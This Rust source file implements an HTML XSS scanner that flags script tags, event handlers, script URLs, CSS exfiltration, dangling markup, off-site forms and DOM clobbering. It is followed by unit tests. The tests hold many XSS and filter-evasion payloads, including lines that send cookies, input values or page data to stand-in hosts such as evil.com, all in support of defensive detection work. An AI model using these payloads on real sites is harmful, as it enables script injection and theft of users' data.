//! XSS detection in HTML context: a small tag scanner that reads tags and attributes
//! the way a lenient browser does and reports what would execute script.
//!
//! Input is expected decoded (URL, HTML entities) and lowercased. Plain formatting
//! markup (`<b>`, `<p>`, `<a href="https://...">`, `<img src="x.png">`) is not reported.

use super::memo::{NextFind, RunEnd};

/// What the scanner found.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct XssFindings {
    /// A tag that loads or runs code by itself (`<script>`, `<iframe>`, `<object>`, ...).
    pub dangerous_tag: bool,
    /// An `on*=` event handler attribute inside a tag.
    pub event_handler: bool,
    /// A `javascript:`/`vbscript:`/`data:text/html` URL or a CSS expression in an attribute.
    pub script_uri: bool,
    /// Markup that sends the page to another site without script: a URL or `value`
    /// attribute left open to the end (dangling markup, which swallows the page up
    /// to the next quote into the URL), or a stylesheet whose off-site `url()`
    /// depends on what the page holds (attribute-value selectors, `attr()`,
    /// `unicode-range`).
    pub leaks: bool,
    /// Markup that loads from or posts to another site: a `<style>` with an
    /// off-site `url()`, a `<form>` with an off-site action and an input.
    pub offsite: bool,
    /// An element whose `id` or `name` is a property of `document` that scripts
    /// read (`<img name=cookie>`, `<a id=defaultView>`): DOM clobbering.
    pub clobbers: bool,
    /// An inline style with a comment in it (`color:red/*/foo.jpg`), or a
    /// script binding under any name (`behaviour:`, `binding:`): the CSS
    /// injections of filter test suites, which restyle the page past a
    /// sanitizer. Editors and e-mail templates write neither.
    pub styled: bool,
}

impl XssFindings {
    /// True when anything was found.
    pub fn any(&self) -> bool {
        self.dangerous_tag || self.event_handler || self.script_uri
    }
}

const DANGEROUS_TAGS: &[&str] = &[
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "import",
    "vmlframe", "portal", "isindex", "xss", "xml", "handler", "listener",
];

/// Tags that load or run nothing without an attribute: a bare `<iframe>` is an
/// empty frame, a bare `<object>` an empty box. Prose and documentation name them
/// (`the <object> element`); an injection gives them a source.
const INERT_BARE: &[&str] = &[
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "vmlframe",
];

/// Whether the tag whose name ends at `j` closes with no attribute (`<object>`,
/// `<iframe />`). One left open at the end of the value is not bare: the page
/// supplies the rest.
fn bare(b: &[u8], j: usize) -> bool {
    let mut k = j;
    while k < b.len() && (b[k] <= b' ' || b[k] == b'/') {
        k += 1;
    }
    b.get(k) == Some(&b'>')
}

const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "background",
    "poster",
    "codebase",
    "dynsrc",
    "lowsrc",
    "values",
    "to",
    "from",
    "by",
    "content",
    "srcset",
    "ping",
    "folder",
    "xml:base",
    "code",
    "archive",
    "profile",
    "longdesc",
    "usemap",
    "cite",
    "icon",
    "manifest",
    "style",
    "url",
];

/// What an attribute value's (already lowercased) scheme says: script
/// (`javascript:`, a `data:` URL of a document or script), nothing to run (another
/// `data:` URL), or `None` when it has neither and its CSS decides. Reads no more
/// than the value's first 48 visible bytes.
fn scheme_runs_script(value: &str) -> Option<bool> {
    // Browsers skip whitespace and control characters inside the scheme.
    let mut compact = [0u8; 48];
    let mut n = 0;
    for c in value.bytes() {
        if c <= b' ' {
            continue;
        }
        if n == compact.len() {
            break;
        }
        compact[n] = c;
        n += 1;
    }
    let v = &compact[..n];
    let starts = |p: &[u8]| v.starts_with(p);
    if starts(b"javascript:") || starts(b"vbscript:") || starts(b"livescript:") || starts(b"mocha:")
    {
        return Some(true);
    }
    if starts(b"data:") {
        let rest = &v[5..];
        return Some(
            [
                &b"text/html"[..],
                b"image/svg",
                b"application/x-javascript",
                b"application/javascript",
                b"text/javascript",
                b"application/xhtml",
                b"text/xml",
                b"application/ecmascript",
                b"text/ecmascript",
            ]
            .iter()
            .any(|p| rest.starts_with(p)),
        );
    }
    None
}

/// CSS and refresh forms: url(javascript:...), expression(...), behavior:,
/// -moz-binding, 0;url=javascript:, and CSS escapes hiding any of them
/// (`\0075\0072\006c`). Anything it finds in a value it finds in a longer one that
/// ends the same way.
fn css_runs_script(value: &str) -> bool {
    css_escapes(value) >= 4 || css_code(value)
}

/// CSS that runs code as written: an IE expression, a script URL, an IE behavior
/// or an XBL binding.
fn css_code(css: &str) -> bool {
    css.contains("expression(")
        || css.contains("javascript:")
        || css.contains("vbscript:")
        || css.contains("behavior:")
        || css.contains("-moz-binding")
}

/// How many inline styles one scan reads as CSS's parser does ([`css_plain`]):
/// unlike [`css_runs_script`], what it finds in a value it may not find in a longer
/// one that ends the same way (a quote opened earlier hides a comment), so nested
/// tags' values are read one by one, and this bounds that work to 16 times the
/// value's length.
const CSS_READINGS: u8 = 16;

/// CSS as its parser reads it: comments outside strings dropped and a backslash
/// before anything but a hex digit or a line end dropped, the character after it
/// kept as it is (`ex/*x*//*/*/pression(`, `ex\pression(` are `expression(`).
fn css_plain(css: &str) -> String {
    let b = css.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut quote = None;
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        match quote {
            None if c == b'/' && b.get(i + 1) == Some(&b'*') => {
                i = memchr::memmem::find(&b[i + 2..], b"*/").map_or(b.len(), |p| i + 2 + p + 2);
                continue;
            }
            None if matches!(c, b'"' | b'\'') => quote = Some(c),
            Some(q) if c == q => quote = None,
            _ => {}
        }
        if c == b'\\'
            && let Some(&next) = b.get(i + 1)
            && !next.is_ascii_hexdigit()
            && next != b'\n'
        {
            out.push(next);
            i += 2;
            continue;
        }
        out.push(c);
        i += 1;
    }
    String::from_utf8(out).unwrap_or_default()
}

/// How many CSS hex escapes (`\75`, `\0075`) a value holds; inline styles written by
/// people have none.
fn css_escapes(value: &str) -> usize {
    value
        .as_bytes()
        .windows(2)
        .filter(|w| w[0] == b'\\' && w[1].is_ascii_hexdigit())
        .count()
}

/// CSS that loads or runs code: imports, IE expressions and behaviors, XBL bindings.
fn active_css(css: &str) -> bool {
    [
        "@import",
        "expression(",
        "-moz-binding",
        "behavior:",
        "javascript:",
    ]
    .iter()
    .any(|p| css.contains(p))
        || css_escapes(css) >= 4
}

/// Attributes whose value, left open, carries the rest of the page somewhere: URLs
/// that are fetched or submitted, and form values.
const LEAK_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "background",
    "poster",
    "data",
    "srcset",
    "ping",
    "codebase",
    "xlink:href",
    "content",
    "value",
];

fn leaky_attr(attr: &str) -> bool {
    LEAK_ATTRIBUTES.contains(&attr)
}

/// True when a URL (after quotes and spaces) points to another host: `//host` or
/// an absolute http(s) URL.
fn offsite_value(v: &str) -> bool {
    let v = v.trim_start_matches(|c: char| c <= ' ' || matches!(c, '"' | '\'' | '`'));
    v.starts_with("//") || v.starts_with("http://") || v.starts_with("https://")
}

/// A charset of the UTF-7 family (`utf-7`, IMAP's `x-imap4-modified-utf7`,
/// `unicode-1-1-utf-7`), alone or in a `content` type.
fn utf7_charset(v: &str) -> bool {
    v.contains("utf-7") || v.contains("utf7")
}

/// A refresh `content` (a delay, `;` or `,`, then `url=`) whose URL points to
/// another host.
fn offsite_refresh(v: &str) -> bool {
    let v = v.trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, ' ' | '.'));
    let Some(v) = v.strip_prefix([';', ',']) else {
        return false;
    };
    let v = v.trim_start();
    let Some(v) = v.strip_prefix("url") else {
        return false;
    };
    v.trim_start().strip_prefix('=').is_some_and(offsite_value)
}

/// A stylesheet `url()` that points to another host.
fn offsite_url(css: &str) -> bool {
    css.match_indices("url(")
        .any(|(p, _)| offsite_value(&css[p + 4..]))
}

/// CSS that picks what it loads by what the page holds: attribute selectors that
/// match a prefix, suffix or substring (`input[value^="a"]`), `attr()`, and a
/// font's `unicode-range`.
fn css_reads_page(css: &str) -> bool {
    ["^=", "$=", "*=", "attr(", "unicode-range"]
        .iter()
        .any(|p| css.contains(p))
}

/// CSS that loads only on a condition about the reader: a media, container or
/// scope query, or a pseudo-class of what the reader does or has visited.
fn css_reacts_to_reader(css: &str) -> bool {
    [
        "@media",
        "@container",
        "@scope",
        "::selection",
        ":hover",
        ":active",
        ":focus",
        ":visited",
        ":checked",
    ]
    .iter()
    .any(|p| css.contains(p))
}

/// Extensions of what a stylesheet legitimately loads: images, fonts, cursors.
const STYLE_ASSETS: &[&str] = &[
    "png", "jpg", "jpeg", "gif", "webp", "avif", "svg", "ico", "bmp", "cur", "woff", "woff2",
    "ttf", "otf", "eot",
];

/// An off-site `url()` whose path names no image or font file: a beacon that
/// tells the other site the rule applied, not a picture.
fn offsite_beacon(css: &str) -> bool {
    css.match_indices("url(").any(|(p, _)| {
        let v =
            css[p + 4..].trim_start_matches(|c: char| c <= ' ' || matches!(c, '"' | '\'' | '`'));
        if !offsite_value(v) {
            return false;
        }
        let end = v
            .find(|c: char| matches!(c, ')' | '"' | '\'' | '`' | '?' | '#') || c <= ' ')
            .unwrap_or(v.len());
        let path = v[..end]
            .trim_start_matches("https:")
            .trim_start_matches("http:");
        // `//host` alone, or `//host/.../name`: the last segment's extension.
        let last = path
            .trim_start_matches('/')
            .split('/')
            .skip(1)
            .last()
            .unwrap_or("");
        !last
            .rsplit_once('.')
            .is_some_and(|(_, ext)| STYLE_ASSETS.contains(&ext))
    })
}

/// Properties of `document` that scripts read and a named element shadows.
const DOCUMENT_PROPERTIES: &[&str] = &[
    "cookie",
    "defaultview",
    "currentscript",
    "getelementbyid",
    "getelementsbyname",
    "getelementsbytagname",
    "queryselector",
    "queryselectorall",
    "createelement",
    "documentelement",
    "ownerdocument",
    "attributes",
    "nodename",
    "nodetype",
    "parentnode",
    "childnodes",
    "firstchild",
    "lastchild",
    "innerhtml",
    "outerhtml",
    "baseuri",
    "implementation",
];

/// Whether a URL attribute's value (`s[from..to]`) runs script, remembering the
/// values whose CSS was found clean: a value that ends where a clean one ends and
/// starts no earlier is clean too (a tag nested in another's value has a value
/// that is the end of the other's).
#[derive(Default)]
struct ScriptyValues {
    /// Per end, the earliest start of a value found to hold no script in its CSS.
    clean: std::collections::HashMap<usize, usize>,
}

impl ScriptyValues {
    fn runs_script(&mut self, s: &str, from: usize, to: usize) -> bool {
        let value = &s[from..to];
        if let Some(verdict) = scheme_runs_script(value) {
            return verdict;
        }
        if self.clean.get(&to).is_some_and(|&start| start <= from) {
            return false;
        }
        if css_runs_script(value) {
            return true;
        }
        let start = self.clean.entry(to).or_insert(from);
        *start = (*start).min(from);
        false
    }
}

/// The positions tags read an attribute list from, per tag class: one bit per
/// byte of the value and class, allocated when the first attribute is read.
struct ReadFrom {
    words: usize,
    bits: Vec<u64>,
}

impl ReadFrom {
    fn new(len: usize) -> Self {
        Self {
            words: len / 64 + 1,
            bits: Vec::new(),
        }
    }

    /// Marks `pos` read by a tag of `class`; false when it already was.
    fn insert(&mut self, pos: usize, class: u8) -> bool {
        if self.bits.is_empty() {
            self.bits = vec![0; self.words * TAG_CLASSES];
        }
        let Some(word) = self
            .bits
            .get_mut(usize::from(class) * self.words + pos / 64)
        else {
            return true;
        };
        let bit = 1u64 << (pos % 64);
        let fresh = *word & bit == 0;
        *word |= bit;
        fresh
    }
}

/// How many values `tag_class` returns.
const TAG_CLASSES: usize = 5;

/// The tags whose attributes mean something only together or only on them; every
/// other tag's attributes are judged alike.
fn tag_class(local: &str) -> u8 {
    match local {
        "meta" => 1,
        "link" => 2,
        "layer" | "ilayer" => 3,
        "form" => 4,
        _ => 0,
    }
}

thread_local! {
    /// The value this thread scanned last and what was found in it. The XSS rules
    /// read the same reading of a field one after another, each for one finding;
    /// the scan is the costliest thing they do, so it runs once per reading.
    static LAST_SCAN: std::cell::RefCell<Option<(String, XssFindings)>> =
        const { std::cell::RefCell::new(None) };
}

/// Values longer than this are scanned again rather than copied into the cache,
/// which a worker thread keeps between requests.
const CACHED_SCAN_MAX: usize = 256 * 1024;

/// Scans `s` (decoded, lowercased) for script-running HTML; `scan_value` does
/// the work, and the answer for the last value is remembered (a scan depends on
/// the value alone, so a remembered answer is the one a new scan would give).
pub fn scan(s: &str) -> XssFindings {
    if s.len() > CACHED_SCAN_MAX {
        return scan_value(s);
    }
    LAST_SCAN.with(|last| {
        let Ok(mut last) = last.try_borrow_mut() else {
            return scan_value(s);
        };
        if let Some((value, found)) = last.as_ref()
            && value == s
        {
            return *found;
        }
        let found = scan_value(s);
        match last.as_mut() {
            Some((value, f)) => {
                value.clear();
                value.push_str(s);
                *f = found;
            }
            None => *last = Some((s.to_owned(), found)),
        }
        found
    })
}

/// Scans `s` (decoded, lowercased) for script-running HTML.
///
/// Linear in the length of `s`: a browser keeps `<` in an unquoted attribute
/// value, so in `x=<x=<…` every `<x` is a tag of its own. Tags nested in each other's attribute values
/// share where their values end, an attribute list already read from a position by
/// a tag of the same class is not read again from there (what it holds was found
/// the first time), and a `<style>` inside another's sheet is not checked again.
fn scan_value(s: &str) -> XssFindings {
    let mut f = XssFindings::default();
    let b = s.as_bytes();
    let mut i = 0;
    let mut offsite_form = false;
    let (mut unquoted, mut quoted) = (RunEnd::NEW, [RunEnd::NEW, RunEnd::NEW, RunEnd::NEW]);
    let mut read_from = ReadFrom::new(b.len());
    let mut style_end = 0;
    let mut scripty = ScriptyValues::default();
    let mut css_readings = CSS_READINGS;
    let (mut url_eq, mut stylesheet, mut import) = (
        NextFind::new("url="),
        NextFind::new("stylesheet"),
        NextFind::new("import"),
    );
    let (mut comment, mut behaviour, mut binding) = (
        NextFind::new("/*"),
        NextFind::new("behaviour"),
        NextFind::new("binding"),
    );
    while let Some(p) = s[i..].find('<') {
        let start = i + p + 1;
        i = start;
        // Tag name: letters, digits, `:`, `-` (`<svg:script>`, `<x-y>`).
        let mut j = start;
        while j < b.len() && (b[j].is_ascii_alphanumeric() || matches!(b[j], b':' | b'-' | b'_')) {
            j += 1;
        }
        // `<?xml-stylesheet href=...?>` loads a stylesheet (and its script) too, and
        // IE's `<?import implementation=...>` a behavior.
        if j == start
            && (s[start..].starts_with("?xml-stylesheet") || s[start..].starts_with("?import"))
        {
            f.dangerous_tag = true;
            continue;
        }
        if j == start || !b[start].is_ascii_alphabetic() {
            continue;
        }
        let name = &s[start..j];
        let local = name.rsplit(':').next().unwrap_or(name);
        if DANGEROUS_TAGS.contains(&local) && !(INERT_BARE.contains(&local) && bare(b, j)) {
            f.dangerous_tag = true;
        }
        // `<style>` whose sheet imports or runs code. One inside an earlier one's
        // sheet has a sheet that is the end of that one's, already checked.
        if local == "style" && j >= style_end {
            style_end = memchr::memmem::find(&b[j..], b"</style").map_or(b.len(), |p| j + p);
            let body = &s[j..style_end];
            if active_css(body) {
                f.script_uri = true;
            }
            if offsite_url(body) {
                f.offsite = true;
                f.leaks |=
                    css_reads_page(body) || (css_reacts_to_reader(body) && offsite_beacon(body));
            }
        }
        if matches!(local, "input" | "button" | "textarea" | "select") && offsite_form {
            f.offsite = true;
        }
        // `<link rel=stylesheet|import href=...>` loads code from elsewhere, and so
        // does `<meta http-equiv=link content="<...>; rel=stylesheet">`.
        let (mut loads, mut has_href) = (false, false);
        let mut meta_link = false;
        let class = tag_class(local);
        // Attributes until `>` or the next `<` (unclosed tags still execute).
        let mut k = j;
        loop {
            while k < b.len() && (b[k] <= b' ' || matches!(b[k], b'/' | b'"' | b'\'' | b'`')) {
                k += 1;
            }
            if k >= b.len() || b[k] == b'>' || b[k] == b'<' {
                break;
            }
            if !read_from.insert(k, class) {
                break;
            }
            let an = k;
            while k < b.len() && !(b[k] <= b' ' || matches!(b[k], b'=' | b'>' | b'/' | b'<')) {
                k += 1;
            }
            let attr = &s[an..k];
            while k < b.len() && b[k] <= b' ' {
                k += 1;
            }
            let (mut vs, mut ve) = (k, k);
            if k < b.len() && b[k] == b'=' {
                k += 1;
                while k < b.len() && b[k] <= b' ' {
                    k += 1;
                }
                // `value=` with nothing after it: what follows in the page becomes
                // the value.
                if k >= b.len() && leaky_attr(attr) {
                    f.leaks = true;
                }
                if k < b.len() && matches!(b[k], b'"' | b'\'' | b'`') {
                    let q = b[k];
                    vs = k + 1;
                    let slot = match q {
                        b'"' => 0,
                        b'\'' => 1,
                        _ => 2,
                    };
                    ve = quoted[slot].find(b, vs, |c| c == q);
                    // A quote never closed, with no tag after it: dangling markup.
                    if ve == b.len() && leaky_attr(attr) && !s[vs..ve].contains(['<', '>']) {
                        f.leaks = true;
                    }
                    k = (ve + 1).min(b.len());
                } else {
                    vs = k;
                    k = unquoted.find(b, vs, |c| c <= b' ' || c == b'>');
                    ve = k;
                }
            }
            let value = &s[vs..ve];
            if attr.len() >= 5
                && attr.starts_with("on")
                && attr[2..].bytes().all(|c| c.is_ascii_alphabetic())
            {
                f.event_handler = true;
            }
            // `srcdoc` holds a document; `datasrc`/`dataformatas` bind data as HTML (IE).
            if matches!(attr, "srcdoc" | "datasrc" | "dataformatas")
                || (!f.script_uri
                    && (URL_ATTRIBUTES.contains(&attr) || attr.ends_with(":href"))
                    && scripty.runs_script(s, vs, ve))
            {
                f.script_uri = true;
            }
            if attr == "style" {
                // Each looked for through its next occurrence: an unquoted value
                // runs to the end of a value without spaces, in every tag.
                let commented = comment.within(b, vs, ve);
                if !f.styled
                    && (commented || behaviour.within(b, vs, ve) || binding.within(b, vs, ve))
                {
                    f.styled = true;
                }
                // An inline style hiding its code behind comments or escapes.
                if !f.script_uri && css_readings > 0 && (commented || value.contains('\\')) {
                    css_readings -= 1;
                    f.script_uri = css_code(&css_plain(value));
                }
            }
            // A page read in UTF-7 runs `+ADw-script+AD4-` as a tag, and a cookie
            // set by markup fixes the session: a `<meta>` that does either is
            // script-capable.
            if local == "meta"
                && ((matches!(attr, "charset" | "content") && utf7_charset(value))
                    || (attr == "http-equiv" && value == "set-cookie"))
            {
                f.dangerous_tag = true;
            }
            // Netscape's JavaScript style sheets: `<style type="text/javascript">`
            // holds script.
            if local == "style" && attr == "type" && value.contains("javascript") {
                f.dangerous_tag = true;
            }
            // `<meta http-equiv=refresh content="0;url=javascript:...">`: the URL
            // follows the delay.
            if local == "meta" && attr == "content" {
                // A refresh that sends the page to another site (`0; url=//evil/`).
                if offsite_refresh(value) {
                    f.offsite = true;
                }
                if !f.script_uri
                    && let Some(at) = url_eq.at(b, vs).filter(|&at| at + 4 <= ve)
                {
                    let mut from = at + 4;
                    while from < ve && matches!(b[from], b'\'' | b'"' | b' ') {
                        from += 1;
                    }
                    f.script_uri = scripty.runs_script(s, from, ve);
                }
                if meta_link && stylesheet.within(b, vs, ve) {
                    f.dangerous_tag = true;
                }
            }
            // Netscape's `<layer src=…>` loads a document into the page.
            if matches!(local, "layer" | "ilayer") && attr == "src" && !value.is_empty() {
                f.dangerous_tag = true;
            }
            if matches!(attr, "id" | "name") && DOCUMENT_PROPERTIES.contains(&value) {
                f.clobbers = true;
            }
            if local == "meta" && attr == "http-equiv" && value == "link" {
                meta_link = true;
            }
            if local == "form" && matches!(attr, "action" | "formaction") && offsite_value(value) {
                offsite_form = true;
            }
            // htmx fetches HTML from an `hx-get` (…) URL and swaps it into the
            // page, scripts and handlers included: an off-site one is a remote
            // include, like an off-site form.
            if matches!(
                attr.strip_prefix("data-").unwrap_or(attr),
                "hx-get" | "hx-post" | "hx-put" | "hx-patch" | "hx-delete"
            ) && offsite_value(value)
            {
                f.offsite = true;
            }
            if local == "link" {
                loads |=
                    attr == "rel" && (stylesheet.within(b, vs, ve) || import.within(b, vs, ve));
                has_href |= attr == "href" && !value.is_empty();
                if loads && has_href {
                    f.dangerous_tag = true;
                }
            }
            if f.dangerous_tag && f.event_handler && f.script_uri {
                return f;
            }
        }
    }
    f
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_remembered_scan_is_the_scan_of_the_same_value() {
        let values = [
            "<script>alert(1)</script>",
            "<b>bold</b>",
            "<img src=x onerror=alert(1)>",
            "<b>bold</b>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "",
            "<a id=cookie>",
        ];
        for v in values.into_iter().chain(values.into_iter().rev()) {
            assert_eq!(scan(v), scan_value(v), "{v}");
        }
        // Longer than the cache keeps: scanned every time, still the same answer.
        let long = format!("{}<svg onload=alert(1)>", "x".repeat(CACHED_SCAN_MAX));
        assert!(scan(&long).event_handler);
        assert_eq!(scan("<b>bold</b>"), XssFindings::default());
    }

    #[test]
    fn each_tag_class_reads_an_attribute_list_from_a_position_once() {
        let mut read = ReadFrom::new(130);
        for (pos, class) in [(0, 0), (63, 0), (64, 0), (129, 4), (64, 1)] {
            assert!(read.insert(pos, class), "{pos} {class} first");
            assert!(!read.insert(pos, class), "{pos} {class} again");
        }
        assert!(read.insert(1, 0) && read.insert(129, 3));
    }

    #[test]
    fn script_and_frame_tags_are_dangerous() {
        assert!(scan("<script>alert(1)</script>").dangerous_tag);
        assert!(scan("\"><iframe src=//evil>").dangerous_tag);
        assert!(scan("<svg:script>x</svg:script>").dangerous_tag);
        assert!(scan("<scr<script>ipt>").dangerous_tag);
        assert!(scan("<layer src=\"http://evil/x.html\"></layer>").dangerous_tag);
        assert!(!scan("<layer>css cascade layer</layer>").dangerous_tag);
        // A frame or an object needs a source; named bare, it is prose.
        for a in [
            "<iframe/src=//evil>",
            "<object data=x.swf>",
            "<embed",
            "<base href=//x/>",
        ] {
            assert!(scan(a).dangerous_tag, "missed {a}");
        }
        for b in [
            "attribute of the <object>. Use",
            "an <iframe /> element",
            "<embed>",
        ] {
            assert!(!scan(b).dangerous_tag, "flagged {b}");
        }
        assert!(scan("the <script> element").dangerous_tag);
    }

    #[test]
    fn tags_inside_unquoted_values_are_read_as_a_browser_reads_them() {
        // A browser keeps `<` in an unquoted value: `onerror` belongs to the
        // `<img>`, and the `<1` is no tag.
        assert!(scan("<img src=x<1 onerror=alert(1)>").event_handler);
        // Tags nested in each other's values share where their values end and
        // what follows; each is still read.
        let nested = "<a x=<b y=<c z=<d onclick=alert(1)>";
        assert!(scan(nested).event_handler);
        assert_eq!(scan(&"x=<".repeat(2000)), XssFindings::default());
        assert!(
            scan(&format!(
                "{}<a href=javascript:alert(1)>",
                "x=<".repeat(2000)
            ))
            .script_uri
        );
        assert!(scan(&format!("{}1 onmouseover=alert(1)>", "<a x=".repeat(2000))).event_handler);
        // A `<link>` inside a generic tag's value is still a `<link>`.
        let link = "<a title=<link rel=stylesheet href=//evil/x.css>";
        assert!(scan(link).dangerous_tag);
        // A sheet inside another's is part of it: what either holds is found.
        assert!(scan("<style><style>@import 'x'</style>").script_uri);
        assert!(scan("<style>a{}</style><style>@import 'x'</style>").script_uri);
    }

    #[test]
    fn event_handlers_are_found_with_odd_separators() {
        assert!(scan("<img src=x onerror=alert(1)>").event_handler);
        assert!(scan("<svg/onload=alert(1)>").event_handler);
        assert!(scan("<body\tonpageshow='x'").event_handler);
        assert!(scan("<details open ontoggle=alert(1)>").event_handler);
    }

    #[test]
    fn script_urls_in_attributes_are_found() {
        assert!(scan("<a href=\"java\tscript:alert(1)\">x</a>").script_uri);
        assert!(scan("<a href=javascript:alert(1)>").script_uri);
        assert!(scan("<object data=\"data:text/html;base64,phnjcmlwdd4=\">").script_uri);
        assert!(scan("<div style=\"background:url(javascript:alert(1))\">").script_uri);
        assert!(scan("<iframe srcdoc=\"&lt;x\">").script_uri);
        assert!(scan("<form><button formaction=javascript:alert(1)>").script_uri);
    }

    #[test]
    fn meta_refresh_links_and_stylesheet_instructions_are_found() {
        assert!(
            scan("<meta http-equiv=\"refresh\" content=\"0;url=data:text/html base64,phn\">")
                .script_uri
        );
        assert!(
            scan("<meta http-equiv=\"link\" content=\"<http://x/a.css>; rel=stylesheet\">")
                .dangerous_tag
        );
        assert!(
            scan("<?xml-stylesheet type=\"text/css\" href=\"data:,*{x:expression(1)}\"?>")
                .dangerous_tag
        );
        assert!(
            !scan("<meta http-equiv=\"refresh\" content=\"30;url=https://example.com/\">").any()
        );
        // A refresh off-site is a redirect (paranoia 2); one to the same site, or
        // a page's description mentioning a URL, is not.
        assert!(
            scan("<meta http-equiv=\"refresh\" content=\"0; url=http://evil.example:3555/x\">")
                .offsite
        );
        assert!(!scan("<meta http-equiv=\"refresh\" content=\"5; url=/home\">").offsite);
        assert!(
            !scan("<meta property=\"og:image\" content=\"https://cdn.example/i?url=https://x\">")
                .offsite
        );
        // A charset of the UTF-7 family, or a cookie set by markup.
        for a in [
            "<meta charset=\"x-imap4-modified-utf7\">&adz&agn",
            "<meta http-equiv=\"content-type\" content=\"text/html; charset=utf-7\">",
            "<meta http-equiv=\"set-cookie\" content=\"sid=1; path=/\">",
        ] {
            assert!(scan(a).dangerous_tag, "missed {a}");
        }
        assert!(!scan("<meta charset=\"utf-8\">").any());
        assert!(scan("<style type=\"text/javascript\">alert('kcf');</style>").dangerous_tag);
        assert!(!scan("<style type=\"text/css\">p{color:red}</style>").any());
    }

    #[test]
    fn inline_styles_are_read_without_their_comments_and_escapes() {
        for a in [
            "<a style='no\\kcf:nokcf(\"*//*\");kcf:ex/*kcf*//*/*/pression(alert(\"kcf\"))'>",
            "<div style=\"width:ex\\pression(alert(1))\">",
            "<div style=\"x:exp/**/ression(alert(1))\">",
        ] {
            assert!(scan(a).script_uri, "missed {a}");
        }
        for b in [
            // In a string, a comment mark is text.
            "<div style=\"content:'ex/*'\">",
            "<p style=\"font-family:'a\\'b'; /* note */ color:red\">",
        ] {
            assert!(!scan(b).any(), "flagged {b}");
        }
    }

    #[test]
    fn dangling_markup_and_css_exfiltration_leak() {
        for a in [
            "<img src=\"https://evil.com/collect?cookie=",
            "<form action=\"https://evil.com/c\"><input name=data value=\"",
            "<form action=//attacker/ method=post><input name=secret value=",
            "<style>input[value^=\"a\"]{background:url(//evil.com?a)}</style>",
            "<style>@font-face{font-family:x;src:url('//evil.com/l');unicode-range:u+0041}</style>",
            "<style>.x::before{content:attr(data-s);background:url(\"https://evil.com/\")}</style>",
        ] {
            assert!(scan(a).leaks, "missed {a}");
        }
        for b in [
            "<img src=\"https://example.com/a.png\">",
            "<a href=\"foo>bar</a>",
            "<div style=\"color: red",
            "<style>p{background:url(/img/bg.png)}</style>",
            "<style>a[href^=\"http\"]{color:red}</style>",
            "<input value=\"\">",
            "see <img src=\"x.png\"> and <b>bold",
        ] {
            assert!(!scan(b).leaks, "flagged {b}");
        }
    }

    #[test]
    fn stylesheets_that_beacon_on_the_reader_leak() {
        for a in [
            "<style>@media (min-width: 100px) { body { background: url(\"https://evil.com/width100\"); } }</style>",
            "<style>::selection{background:url(\"https://evil.com/selected\")}</style>",
            "<style>@container style(--theme: dark){.x{background:url(\"https://evil.com/dark\")}}</style>",
            "<style>a:visited{background:url(//evil.com/v?site=bank)}</style>",
        ] {
            assert!(scan(a).leaks, "missed {a}");
        }
        for b in [
            "<style>@media (min-width: 768px){.hero{background:url(https://cdn.example.com/hero-lg.jpg)}}</style>",
            "<style>a:hover{background:url(//cdn.example.com/img/arrow.svg?v=2)}</style>",
            "<style>body{background:url(https://evil.com/w)}</style>",
            "<style>@media print{.x{color:black}}</style>",
        ] {
            assert!(!scan(b).leaks, "flagged {b}");
        }
    }

    #[test]
    fn elements_named_after_document_properties_clobber() {
        assert!(scan("<img id=\"document\" name=\"defaultview\">").clobbers);
        assert!(scan("<form name=getelementbyid></form>").clobbers);
        assert!(scan("<a id=cookie href=x>").clobbers);
        assert!(!scan("<input name=\"email\"><div id=\"document\">").clobbers);
        assert!(!scan("set the cookie name=session").clobbers);
    }

    #[test]
    fn offsite_stylesheets_and_forms_are_found() {
        assert!(scan("<style>body{background:url(\"https://evil.com/w\")}</style>").offsite);
        assert!(scan("<form action=\"https://evil.com/s\"><input name=\"p\"></form>").offsite);
        assert!(!scan("<form action=\"/search\"><input name=\"q\"></form>").offsite);
        assert!(!scan("<form action=\"https://evil.com/s\"></form>").offsite);
        assert!(!scan("<style>p{color:red}</style>").offsite);
        assert!(scan("<div hx-get=\"//evil.example/x\" hx-trigger=\"load\"></div>").offsite);
        assert!(scan("<a data-hx-post='https://evil.example/p'>x</a>").offsite);
        assert!(!scan("<button hx-get=\"/clicked\" hx-swap=\"outerHTML\">").offsite);
        assert!(!scan("use hx-get=\"https://api.example/x\" on a button").offsite);
        assert!(scan("<?import namespace=\"x\" implementation=\"http://a/x.htc\">").dangerous_tag);
    }

    #[test]
    fn formatting_markup_is_not_reported() {
        for s in [
            "<p>hello <b>world</b></p>",
            "<a href=\"https://example.com/a?b=c\">link</a>",
            "<img src=\"/img/cat.png\" alt=\"a cat\">",
            "if a < b and c > d",
            "x<3 and 4<y",
            "<ul><li>one</li></ul>",
            "<div class=\"online\" data-id=\"7\">",
        ] {
            assert!(!scan(s).any(), "{s}: {:?}", scan(s));
        }
    }
}
